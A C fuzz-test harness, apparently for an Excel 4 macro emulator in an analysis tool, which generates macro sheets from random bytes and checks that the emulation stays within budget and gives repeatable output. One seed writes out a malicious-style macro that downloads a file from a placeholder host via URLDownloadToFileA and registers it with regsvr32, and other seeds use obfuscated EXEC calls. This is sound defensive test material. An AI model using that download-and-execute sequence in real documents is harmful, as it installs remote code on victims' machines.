/* Excel 4 macros of any kind: lines of formula text, raw tokens, and programs that are put together from pieces by the bytes.
 * Each ends within its budget, tells UTF-8, and tells the same when it is run again. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/text.h"
#include "fuzz.h"
#include "make/xlm.h"

#define STEPS 20000
#define LINES 64

static void add_lines(make_xlm *m, sk_bytes text)
{
    sk_bytes line;
    for (unsigned i = 0; i < LINES && sk_next_line(&text, &line, NULL); i++) {
        char address[16];
        snprintf(address, sizeof address, "%c%u", i % 4 == 3 ? 'B' : 'A', i + 1);
        make_xlm_cell(m, i % 8 == 7 ? "Sheet1" : "Macro1", address, sk_arena_string(m->arena, line));
    }
}

static void add_tokens(make_xlm *m, sk_bytes b, sk_ptg_version version)
{
    static const sk_doc_reference references[] = {{.own = true, .first = 1, .last = 1}, {.first = -2, .last = -2}};
    m->document->references = SK_NEW_ARRAY(m->arena, sk_doc_reference, 2);
    if (!m->document->references) abort();
    m->document->references[0] = references[0];
    m->document->references[1] = references[1];
    m->document->reference_count = 2;
    for (unsigned i = 0; i < LINES && b.len > 1; i++) {
        size_t len = b.p[0];
        char address[16];
        snprintf(address, sizeof address, "A%u", i + 1);
        make_tokens t = make_tokens_new(m->arena, version);
        sk_buf_bytes(&t.b, sk_slice(b, 1, len));
        make_xlm_tokens(m, "Macro1", address, &t);
        b = sk_from(b, 1 + len);
    }
}

static unsigned take(sk_bytes *b)
{
    unsigned v = b->len ? b->p[0] : 0;
    *b = sk_from(*b, 1);
    return v;
}

/* An expression from the bytes: every function of the table, operators, references, constants. */
static void write_expression(sk_buf *out, sk_bytes *b, unsigned depth)
{
    static const char *const leaves[] = {"1",
                                         "0",
                                         "\"a\"",
                                         "A1",
                                         "B2",
                                         "Sheet1!A1:B3",
                                         "x",
                                         "\"=EXEC(B1)\"",
                                         "TRUE",
                                         "",
                                         "#N/A",
                                         "A$3",
                                         "-5",
                                         "65",
                                         "\"R3C1\"",
                                         "{1,\"b\";TRUE,#REF!}",
                                         "1E+300",
                                         "Sheet1!B:B",
                                         "\"http://x.example/\"",
                                         "NOW()"};
    static const char *const operators[] = {"+", "-", "*", "/", "^", "&", "=", "<", ">=", "<>", ":", " "};
    unsigned kind = take(b);
    if (depth == 0 || kind < 90 || b->len == 0) {
        sk_buf_str(out, leaves[kind % SK_COUNT(leaves)]);
        return;
    }
    if (kind < 140) {
        sk_buf_byte(out, '(');
        write_expression(out, b, depth - 1);
        sk_buf_str(out, operators[kind % SK_COUNT(operators)]);
        write_expression(out, b, depth - 1);
        sk_buf_byte(out, ')');
        return;
    }
    unsigned number = (take(b) << 8 | take(b)) % 0xC40;
    for (unsigned i = 0; i < 0x200 && !sk_ptg_function(number & 0x3FF, number & 0x800, NULL); i++) number++;
    const char *name = sk_ptg_function(number & 0x3FF, number & 0x800, NULL);
    sk_buf_format(out, "%s(", name ? name : "FORMULA");
    for (unsigned i = take(b) % 5; i > 0; i--) {
        write_expression(out, b, depth - 1);
        if (i > 1) sk_buf_byte(out, ',');
    }
    sk_buf_byte(out, ')');
}

static void add_program(make_xlm *m, sk_bytes b)
{
    sk_buf text = sk_buf_new(m->arena, 1u << 16);
    for (unsigned i = 0; i < LINES && b.len > 0; i++) {
        sk_buf_byte(&text, '=');
        write_expression(&text, &b, 5);
        sk_buf_byte(&text, '\n');
    }
    add_lines(m, sk_buf_view(&text));
}

static sk_bytes run(sk_bytes b, make_xlm **ret)
{
    make_xlm *m = make_xlm_new();
    m->budget.limits.value[SK_LIMIT_EMULATE_STEPS] = STEPS;
    m->budget.limits.value[SK_LIMIT_XLM_CELLS] = 2000;
    m->budget.limits.value[SK_LIMIT_XLM_RUNS] = 8;
    unsigned mode = sk_at(b, 0) < 0 ? 0 : (unsigned)sk_at(b, 0) % 4;
    sk_bytes rest = sk_from(b, 1);
    if (mode == 0)
        add_lines(m, rest);
    else if (mode == 1)
        add_program(m, rest);
    else
        add_tokens(m, rest, mode == 2 ? SK_PTG_BIFF8 : SK_PTG_BIFF12);
    make_xlm_name(m, "Auto_Open", "Macro1!$A$1");
    make_xlm_name(m, "x", "Sheet1!$A$1:$B$2");
    *ret = m;
    return sk_bytes_str(make_xlm_run(m));
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    make_xlm *first, *second;
    sk_bytes a = run(sk_bytes_of(data, size), &first), b = run(sk_bytes_of(data, size), &second);
    if (!sk_utf8_valid(a) || !sk_equal(a, b)) abort();
    if (first->budget.used[SK_LIMIT_EMULATE_STEPS] > STEPS) abort();
    make_xlm_free(first);
    make_xlm_free(second);
    return 0;
}

static void give(void (*take_seed)(void *self, sk_bytes seed), void *self, sk_arena *a, unsigned mode, sk_bytes bytes)
{
    sk_buf b = sk_buf_new(a, 1u << 16);
    sk_buf_byte(&b, (uint8_t)mode);
    sk_buf_bytes(&b, bytes);
    take_seed(self, sk_buf_view(&b));
}

void sk_fuzz_seeds(void (*take_seed)(void *self, sk_bytes seed), void *self)
{
    static const char *const texts[] = {
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://one.example/"
        "a\",\"C:\\x.ocx\",0,0)\n=IF(A1<0,CLOSE(0),)\n=EXEC(\"regsvr32 C:\\x.ocx\")\n",
        "=FORMULA(\"=EXEC(\"\"tool.example\"\"&CHAR(65))\",A3)\n=SET.VALUE(B1,DAY(NOW()))\n\n=RUN(\"R1C1\")\n",
        "=SET.NAME(\"s\",\"\")\n=FOR(\"i\",1,5)\n=SET.NAME(\"s\",s&MID(\"abcdef\",i,1))\n1\n=NEXT()\n=WHILE(LEN(s)<9)"
        "\n=FORMULA.FILL(s,R1C9:R3C9)\n",
        "=FOR.CELL(\"c\",Sheet1!A1:C9,TRUE)\n=IF(c=\"\")\n=ELSE.IF(c>1)\n=GOTO(A9)\n=ELSE()\n=BREAK()\n=END.IF()\n="
        "VLOOKUP(1,{1,\"a\";2,\"b\"},2,0)\n=NEXT()\n",
        "=FOPEN(\"C:\\a.txt\",3)\n=FWRITELN(A1,TEXT(NOW(),\"yyyy-mm-dd "
        "#,##0.00;[Red]-0%\"))\n=FCLOSE(A1)\n=GET.CELL(17,A1)+GET.WORKSPACE(37)\n=A1()\n",
        "=x=REPT(\"ab\",9)\n=DEFINE.NAME(\"y\",\"=x&\"\"z\"\"\")\n=EVALUATE(y)\n=INDIRECT(\"Sheet1!\"&ADDRESS(1,2))\n="
        "OFFSET(A1:B2,1,1,2,2) A1:C3\n"};
    sk_arena *a = sk_arena_new(16u << 20);
    if (!a) abort();
    for (size_t i = 0; i < SK_COUNT(texts); i++) give(take_seed, self, a, 0, sk_bytes_str(texts[i]));
    uint8_t bytes[400];
    for (unsigned i = 0; i < sizeof bytes; i++) bytes[i] = (uint8_t)(i * 2654435761u >> 13);
    give(take_seed, self, a, 1, sk_bytes_of(bytes, sizeof bytes));
    for (unsigned version = SK_PTG_BIFF8; version <= SK_PTG_BIFF12; version++) {
        sk_buf b = sk_buf_new(a, 4096);
        for (unsigned i = 0; i < 3; i++) {
            make_tokens t = make_tokens_new(a, (sk_ptg_version)version);
            make_ptg_string(&t, "tool.example ");
            make_ptg_int(&t, 65 + i);
            make_ptg_function(&t, "CHAR");
            make_ptg(&t, 0x08);
            make_ptg_ref_sheet(&t, 0, i, 1);
            make_ptg(&t, 0x08);
            make_ptg_call(&t, i == 1 ? "FORMULA" : "EXEC", 1);
            sk_buf_byte(&b, (uint8_t)make_tokens_view(&t).len);
            sk_buf_bytes(&b, make_tokens_view(&t));
        }
        give(take_seed, self, a, version == SK_PTG_BIFF8 ? 2 : 3, sk_buf_view(&b));
    }
    sk_arena_free(a);
}
